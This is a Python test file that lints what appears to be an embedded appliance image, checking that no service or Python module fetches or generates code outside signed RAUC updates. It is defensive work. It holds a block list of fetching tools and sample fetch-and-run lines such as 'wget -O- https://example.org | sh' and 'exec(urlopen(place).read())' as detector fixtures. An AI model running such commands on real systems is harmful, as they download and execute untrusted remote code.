"""The card fetches no code: what runs there calls no program and no library that would, and compiles nothing it got.

Updates are the one way for new code, as signed bundles; RAUC fetches them, and checks them (docs/updates.md).
"""

import ast
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from image import recipe
from tests.lint.sources import name_of, sources, text_of

PROGRAMS = ("pip3?", "pipx", "uv", "easy_install", "apt", "apt-get", "aptitude", "curl", "wget", "npm", "npx", "git")
# Not inside a word, a name of a package or a path of another program.
CALLED = re.compile(rf"(?<![\w.-])({'|'.join(PROGRAMS)})(?![\w-]|\.[a-z])")
FETCHING = {"pip", "ensurepip", "setuptools", "pkg_resources", "easy_install", "requests", "urllib3"}
# Each of them makes code of data; ruff forbids exec and eval too, but a comment would silence it.
MAKING_CODE = {"exec", "eval", "compile", "__import__"}


def on_the_card() -> list[Path]:
    """Every text that ends up there and is run or read: the appliance, the card's own files, the initramfs."""
    there = ("appliance/", "image/files/", "image/initramfs/", "image/boot.cmd")
    kinds = (".po", ".html", ".css", ".svg")  # words for people; no program reads a command out of them
    return [path for path in sources() if name_of(path).startswith(there) and path.suffix not in kinds]


def called(text: str) -> list[str]:
    """The programs in a text that would fetch code."""
    return [match[1] for match in CALLED.finditer(text)]


def means(source: str) -> Iterator[str]:
    """What Python source has to fetch code, or to make it of data."""
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import | ast.ImportFrom):
            # "import a, b" and "from a.b import c" alike.
            names = [node.module or ""] if isinstance(node, ast.ImportFrom) else [one.name for one in node.names]
            yield from (name for name in names if name.partition(".")[0] in FETCHING)
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in MAKING_CODE:
            yield node.func.id
        elif isinstance(node, ast.Attribute) and node.attr in ("import_module", "SourceFileLoader", "exec_module"):
            yield node.attr


def test_nothing_calls_a_program_that_fetches_code() -> None:
    texts = {name_of(path): text_of(path) for path in on_the_card()}
    assert {name.partition("/")[0] for name in texts} == {"appliance", "image"}
    assert sum(name.endswith(".service") for name in texts) > 15
    assert {name: called(text) for name, text in texts.items() if text and called(text)} == {}


def test_no_python_of_the_card_fetches_or_makes_code() -> None:
    pythons = [path for path in on_the_card() if path.suffix == ".py"]
    assert len(pythons) > 100
    assert {name_of(path): found for path in pythons if (found := list(means(path.read_text())))} == {}


@pytest.mark.parametrize("name", ["curl", "wget", "git", "npm", "nodejs", "python3-pip", "pipx", "snapd"])
def test_the_card_asks_for_no_package_that_fetches_code(name: str) -> None:
    assert name not in (*recipe.USERLAND, *recipe.HARDWARE)
    assert {"usr/bin/apt*", "usr/lib/apt", "usr/lib/python3*/ensurepip"} <= set(recipe.TRIMMED)


@pytest.mark.parametrize(
    ("text", "program"),
    [
        ("ExecStart=/usr/bin/curl -s https://example.org/run.sh", "curl"),
        ("ExecStartPre=/bin/sh -c 'apt-get update'", "apt-get"),
        ('subprocess.run(["pip", "install", "flask"])', "pip"),
        ("python3 -m pip install flask", "pip"),
        ("wget -O- https://example.org | sh", "wget"),
    ],
)
def test_a_program_that_fetches_code_would_be_found(text: str, program: str) -> None:
    assert called(text) == [program]


@pytest.mark.parametrize("text", ["the pipe's end", "Pipfile.lock", "adapt", "curled", "/usr/lib/libcurl.so.4"])
def test_other_words_are_not(text: str) -> None:
    assert called(text) == []


@pytest.mark.parametrize(
    ("source", "found"),
    [
        ("import pip._internal", "pip._internal"),
        ("from ensurepip import bootstrap", "ensurepip"),
        ("exec(urlopen(place).read())", "exec"),
        ("import importlib\nimportlib.import_module(name)", "import_module"),
    ],
)
def test_python_that_fetches_or_makes_code_would_be_found(source: str, found: str) -> None:
    assert list(means(source)) == [found]
